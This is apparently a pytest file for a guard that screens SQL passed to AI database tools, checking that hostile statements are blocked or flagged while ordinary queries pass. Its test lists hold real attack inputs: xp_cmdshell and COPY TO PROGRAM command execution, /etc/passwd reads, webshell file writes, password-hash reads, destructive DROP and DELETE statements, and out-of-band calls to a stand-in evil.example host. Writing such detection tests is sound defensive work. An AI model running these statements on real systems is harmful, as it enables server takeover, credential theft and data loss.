from __future__ import annotations

import pytest

from tests.layers.sql_calls import context, found, stopped

READER = {"name": "query", "inputSchema": {"properties": {"sql": {}}}, "annotations": {"readOnlyHint": True}}

HOST = [
    "EXEC xp_cmdshell 'dir'",
    "exec master..xp_dirtree 'c:\\'",
    "EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE",
    "DECLARE @s INT; EXEC sp_oacreate 'wscript.shell', @s OUT",
    "COPY t FROM PROGRAM 'id'",
    "COPY (SELECT '') TO PROGRAM 'sh'",
    "COPY t FROM '/etc/passwd'",
    "SELECT 1 INTO OUTFILE '/var/www/a.php'",
    "SELECT 0x41 INTO DUMPFILE '/tmp/a.so'",
    "SELECT load_file('/etc/hosts')",
    "SELECT pg_read_file('a')",
    "SELECT * FROM pg_ls_dir('/')",
    "SELECT lo_import('/a')",
    "SELECT load_extension('a.so')",
    "SELECT writefile('/tmp/a', 'b')",
    "SELECT sys_exec('id')",
    "CREATE FUNCTION f(text) RETURNS int AS '/tmp/a.so' LANGUAGE C",
    "CREATE FUNCTION f() RETURNS text AS 'import os' LANGUAGE plpython3u",
    "CREATE FUNCTION f RETURNS STRING SONAME 'a.so'",
    "SELECT utl_file.fopen('D','a','r') FROM dual",
    "BEGIN dbms_scheduler.create_job('a'); END;",
    "ATTACH DATABASE '/srv/a.php' AS a",
    "SET GLOBAL general_log_file = '/srv/a'",
    "ALTER SYSTEM SET archive_command = 'id'",
    "SELECT * FROM read_text('/etc/passwd')",
    "LOAD DATA INFILE '/etc/passwd' INTO TABLE t",
]
OUTSIDE = [
    "SELECT utl_http.request('http://evil.example/') FROM dual",
    "SELECT utl_inaddr.get_host_address('evil.example') FROM dual",
    "SELECT httpuritype('http://evil.example/').getclob() FROM dual",
    "SELECT * FROM dblink('host=evil.example', 'select 1') AS t(a int)",
    "SELECT * FROM OPENROWSET('SQLNCLI', 'server=evil.example', 'select 1')",
    "BACKUP DATABASE a TO DISK = '\\\\evil.example\\a'",
]
HONEST = [
    "SELECT name, price FROM products WHERE price > 10 ORDER BY price DESC LIMIT 5",
    "SELECT count(*) FROM orders WHERE created_at >= now() - interval '7 days'",
    "WITH a AS (SELECT 1) SELECT * FROM a",
    "SELECT table_name FROM information_schema.tables WHERE table_schema = 'public'",
    "SELECT 'a' AS k UNION ALL SELECT 'b'",
    "SELECT id FROM a UNION SELECT id FROM b",
    "SELECT * FROM t WHERE a = '' OR b = 'or 1'",
    "SELECT split_part(email, '@', 2), replace(a, '-', '') FROM users",
    "SELECT regexp_replace(a, '\\\\w+\\\\.\\\\d', '') FROM t",
    "SELECT * FROM t WHERE path LIKE 'C:\\\\%'",
    "SELECT 'it''s' -- a remark\nFROM t",
    "-- how many\nSELECT count(*) FROM t",
    "/* nightly */ SELECT 1",
    "INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y')",
    "UPDATE t SET a = 1 WHERE id = 7",
    "DELETE FROM t WHERE id IN (1, 2)",
    "CREATE TABLE t (id int primary key, name text)",
    "ALTER TABLE t ADD COLUMN b int",
    "EXPLAIN ANALYZE SELECT * FROM t",
    "SHOW TABLES",
    "PRAGMA table_info(users)",
    "COPY t FROM STDIN",
    "SELECT * FROM read_csv('data/a.csv')",
    "SELECT json_extract(a, '$.b') FROM t",
    "SELECT user, host FROM mysql.user",
    "SELECT * FROM users WHERE first_name = 'O''Brien' AND last_name = 'x'",
    "VALUES (1, 'a')",
    "BEGIN; UPDATE t SET a = 1 WHERE id = 2; COMMIT;",
]


@pytest.mark.parametrize("statement", HOST)
def test_reaching_the_host_of_the_database_is_stopped(statement: str) -> None:
    assert "sql-system-access" in stopped({"sql": statement}, "run_query")


@pytest.mark.parametrize("statement", OUTSIDE)
def test_calling_another_host_is_stopped(statement: str) -> None:
    assert "sql-out-of-band" in found({"sql": statement}, "run_query")
    assert stopped({"sql": statement}, "run_query")


@pytest.mark.parametrize(
    "statement", ["SELECT * FROM pg_shadow", "SELECT authentication_string FROM mysql.user"]
)
def test_reading_the_passwords_of_users_is_stopped(statement: str) -> None:
    assert stopped({"sql": statement}, "run_query") == ("sql-credential-read",)


@pytest.mark.parametrize("statement", HONEST)
@pytest.mark.parametrize("member", ["sql", "query"])
def test_honest_statements_pass_where_a_tool_takes_them(statement: str, member: str) -> None:
    assert found({member: statement}, "execute_query") == {}


@pytest.mark.parametrize(
    "statement",
    [
        "DROP TABLE t",
        "DROP DATABASE d",
        "TRUNCATE TABLE t",
        "DELETE FROM t",
        "DELETE FROM t;",
        "UPDATE t SET a = 1",
        "UPDATE t SET a = 1; SELECT 2 WHERE 1 = 1",
        "DELETE FROM t WHERE 1=1",
        "SELECT 1; DROP TABLE t",
    ],
)
def test_destroying_is_noted_in_balanced_and_held_in_strict(statement: str) -> None:
    assert set(found({"sql": statement}, "run_query")) == {"sql-destruction"}
    assert stopped({"sql": statement}, "run_query") == ()
    assert stopped({"sql": statement}, "run_query", context("strict")) == ("sql-destruction",)


@pytest.mark.parametrize(
    ("statement", "rule"),
    [
        ("GRANT ALL ON *.* TO 'a'@'%'", "sql-privilege"),
        ("ALTER USER a WITH SUPERUSER", "sql-privilege"),
        ("COPY t FROM '/import/a.csv' WITH CSV", "sql-server-file"),
        ("LOAD DATA INFILE 'a.csv' INTO TABLE t", "sql-server-file"),
        ("SELECT pg_sleep(5)", "sql-wait"),
        ("WAITFOR DELAY '0:0:5'", "sql-wait"),
        ("SELECT * FROM t WHERE id = 1 OR 1=1", "sql-constant-condition"),
    ],
)
def test_what_administrators_do_too_is_only_noted(statement: str, rule: str) -> None:
    assert rule in found({"sql": statement}, "run_query")
    assert stopped({"sql": statement}, "run_query") == ()


@pytest.mark.parametrize(
    "statement", ["INSERT INTO t VALUES (1)", "SELECT 1; UPDATE t SET a = 1 WHERE b = 2"]
)
def test_a_tool_that_says_it_only_reads_may_not_write(statement: str) -> None:
    reader = context(definition=READER)
    assert stopped({"sql": statement}, "query", reader) == ("sql-write-by-reader",)
    assert stopped({"sql": statement}, "query") == ()


def test_a_tool_that_only_reads_may_read() -> None:
    assert found({"sql": "SELECT a FROM t"}, "query", context(definition=READER)) == {}
